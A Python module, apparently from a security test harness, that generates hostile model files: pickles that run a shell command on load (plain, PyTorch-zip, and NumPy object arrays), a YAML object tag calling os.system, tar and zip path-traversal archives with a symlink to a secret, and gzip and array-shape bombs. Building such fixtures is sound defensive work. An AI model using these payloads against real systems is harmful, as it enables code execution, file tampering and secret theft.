"""Hostile files whose contents Python would run, unpack or inflate: pickles, arrays, archives."""

from __future__ import annotations

import gzip
import io
import os
import pickle
import tarfile
import zipfile
from pathlib import Path

import numpy as np

from hostile.trap import Hostile, Trap

BOMB_BYTES = 64_000_000


class _Call:
    """Runs a shell command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self._command,)


def payload(trap: Trap) -> bytes:
    """Return a pickle that springs the trap."""
    return pickle.dumps(_Call(trap.command))


def _plain(folder: Path, trap: Trap) -> Path:
    return _write(folder / "model.pkl", payload(trap))


def _torch(folder: Path, trap: Trap) -> Path:
    return zipped(folder / "model.pt", {"archive/data.pkl": payload(trap), "archive/version": b"3"})


def _npy(folder: Path, trap: Trap) -> Path:
    np.save(folder / "model.npy", np.array([_Call(trap.command)], object), allow_pickle=True)
    return folder / "model.npy"


def _npz(folder: Path, trap: Trap) -> Path:
    np.savez(folder / "model.npz", weights=np.array([_Call(trap.command)], object))
    return folder / "model.npz"


def _npy_shape(folder: Path, _: Trap) -> Path:
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (1099511627776,), }"
    header += b" " * (117 - len(header)) + b"\n"
    start = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little")
    return _write(folder / "model.npy", start + header)


def _yaml(folder: Path, trap: Trap) -> Path:
    text = f"!!python/object/apply:os.system ['{trap.command}']\n"
    return _write(folder / "model.yaml", text.encode())


def _tar(folder: Path, trap: Trap) -> Path:
    with tarfile.open(folder / "model.tar", "w") as archive:
        up = tarfile.TarInfo(f"../../{trap.canary.name}")
        up.size = 4
        archive.addfile(up, io.BytesIO(b"text"))
        link = tarfile.TarInfo("weights.safetensors")
        link.type, link.linkname = tarfile.SYMTYPE, str(trap.secret)
        archive.addfile(link)
    return folder / "model.tar"


def _zip(folder: Path, trap: Trap) -> Path:
    members = {f"../../{trap.canary.name}": b"text", str(trap.canary): b"text"}
    return zipped(folder / "model.zip", members)


def _gzip_bomb(folder: Path, _: Trap) -> Path:
    return _write(folder / "model.gz", gzip.compress(bytes(BOMB_BYTES), 1))


def zipped(path: Path, members: dict[str, bytes]) -> Path:
    """Write a zip archive."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


def _write(path: Path, content: bytes) -> Path:
    path.write_bytes(content)
    return path


PICKLES = [
    Hostile("pickle", "unpickling runs code", _plain),
    Hostile("torch-zip", "a pickle in an archive, as PyTorch writes it", _torch),
    Hostile("npy-object", "CVE-2019-6446: an array of pickled objects", _npy),
    Hostile("npz-object", "CVE-2019-6446 in an archive", _npz),
    Hostile("npy-shape-bomb", "a shape of 4 TiB", _npy_shape),
    Hostile("yaml-object", "CVE-2021-37678: Keras models as YAML", _yaml),
    Hostile("tar-traversal", "CVE-2024-5187, CVE-2025-12060: members outside, links", _tar),
    Hostile("zip-traversal", "members with .. and absolute paths", _zip),
    Hostile("gzip-bomb", "a thousand times larger than it looks", _gzip_bomb),
]
